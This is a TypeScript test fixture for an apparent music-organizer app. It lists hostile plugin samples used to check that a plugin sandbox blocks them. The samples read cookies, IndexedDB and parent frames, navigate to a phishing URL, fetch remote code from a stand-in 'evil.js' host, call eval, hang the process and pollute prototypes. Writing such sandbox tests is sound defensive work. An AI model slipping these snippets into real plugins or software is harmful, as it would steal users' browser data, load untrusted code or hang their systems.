// Plugins written to do harm, as module source text (issue 14, point 15). Each ends by returning
// "LEAK: …" if its attack worked, and throws "blocked" otherwise, so a test that sees the plugin
// switched off has also seen that no leak came back.

/** A module whose field `x` runs `attack` (an async function body) for every input. */
const during = (attack: string) => `export default { fields: { x: async (input) => { ${attack} } } };`;
/** A module that runs `attack` when it is imported, and has an innocent field. */
const atImport = (attack: string) => `${attack}\nexport default { fields: { x: () => 'innocent' } };`;

export const hostilePlugins: Record<string, string> = {
  'reads IndexedDB': during(`
    const names = await new Promise((resolve, reject) => {
      const request = indexedDB.open('music-organizer');
      request.onsuccess = () => resolve([...request.result.objectStoreNames].join());
      request.onerror = () => reject(request.error);
    });
    return 'LEAK: ' + names;`),
  'reads caches': during(`const keys = await caches.keys(); return 'LEAK: ' + keys.join();`),
  'reads OPFS': during(`
    const root = await navigator.storage.getDirectory();
    const names = [];
    for await (const name of root.keys()) names.push(name);
    return 'LEAK: ' + names.join();`),
  'reads cookies': during(`
    if (typeof cookieStore !== 'undefined') return 'LEAK: ' + JSON.stringify(await cookieStore.getAll());
    return 'LEAK: ' + document.cookie;`),
  'reads parent': during(`return 'LEAK: ' + parent.document.title;`),
  'reads top at import': atImport(`const title = top.document.title; postMessage({ type: 'result', id: 1, values: ['LEAK: ' + title] });`),
  'sets location': during(`
    location.href = 'https://example.invalid/phish';
    if (String(location.href).includes('example.invalid')) return 'LEAK: navigated';
    throw new Error('blocked');`),
  'calls window.open': during(`const w = window.open('https://example.invalid/'); return 'LEAK: ' + Boolean(w);`),
  'fetches an undeclared host': during(`const r = await fetch('https://example.com/'); return 'LEAK: ' + r.status;`),
  'asks the host for an undeclared host': during(`const body = await context_fetch('https://example.com/data.json'); return 'LEAK: ' + JSON.stringify(body);`).replace(
    'async (input) =>',
    'async (input, context) =>',
  ).replace('context_fetch', 'context.fetchJson'),
  'opens a WebSocket': during(`
    await new Promise((resolve, reject) => {
      const socket = new WebSocket('wss://example.com/');
      socket.onopen = resolve;
      socket.onerror = () => reject(new Error('blocked'));
    });
    return 'LEAK: connected';`),
  'imports remote code': during(`const m = await import('https://example.com/evil.js'); return 'LEAK: ' + Object.keys(m);`),
  'imports remote code statically': `import evil from 'https://example.com/evil.js';\nexport default { fields: { x: () => 'LEAK: ' + evil } };`,
  'evaluates code': during(`return 'LEAK: ' + eval('1 + 1');`),
  'loops forever at import': atImport(`for (;;) {}`),
  'loops forever during a call': during(`for (;;) {}`),
  'allocates without bound': during(`const hoard = []; for (;;) hoard.push(new Array(1 << 20).fill(hoard.length));`),
  'returns a 10 MB string': during(`return 'x'.repeat(10 * 1024 * 1024);`),
  'returns a __proto__ payload': during(`return JSON.parse('{"__proto__": {"polluted": "LEAK"}}');`),
  'returns garbage': during(`return { not: 'text' };`),
  'throws': during(`throw new Error('something broke');`),
  'forges answers': atImport(`postMessage({ type: 'result', id: 7, values: ['LEAK: forged'] });`),
  'crashes later': during(`setTimeout(() => { throw new Error('boom'); }); return new Promise(() => {});`),
};

/** What a well-behaved plugin looks like, for contrast: the first letter of the album artist. */
export const initialPlugin = `export default {
  fields: { initial: ({ albumartist }) => (albumartist.trim()[0] ?? '_').toUpperCase() },
  classifiers: { bootlegs: ({ album }) => (/bootleg/i.test(album) ? { type: 'rarity', confidence: 0.99, reason: 'the title says bootleg' } : null) },
};`;
